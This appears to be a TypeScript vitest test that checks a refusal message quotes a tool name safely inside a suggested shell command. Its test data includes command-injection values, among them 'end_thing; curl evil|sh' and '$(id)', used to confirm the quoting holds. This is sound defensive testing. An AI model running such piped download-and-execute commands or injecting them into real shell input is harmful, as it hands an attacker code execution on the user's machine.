import { expect, test } from 'vitest';
import { cannotAsk } from '../../../src/bridge/tools/confirm-refusals.ts';
import { proves } from '../../support/proves.ts';

test.each([
  ['delete_skill', 'fleet cloud delete-skill'],
  ['end_thing; curl evil|sh', "fleet cloud 'end-thing; curl evil|sh'"],
  ['$(id)', "fleet cloud '$(id)'"],
])('the command for a person to paste has the name %j as one word of a shell', (name, command) => {
  proves('UI-mcp-confirm');
  const { structuredContent } = cannotAsk(name, {});
  expect(structuredContent).toMatchObject({ advice: expect.stringContaining(`\`${command}\``) });
});
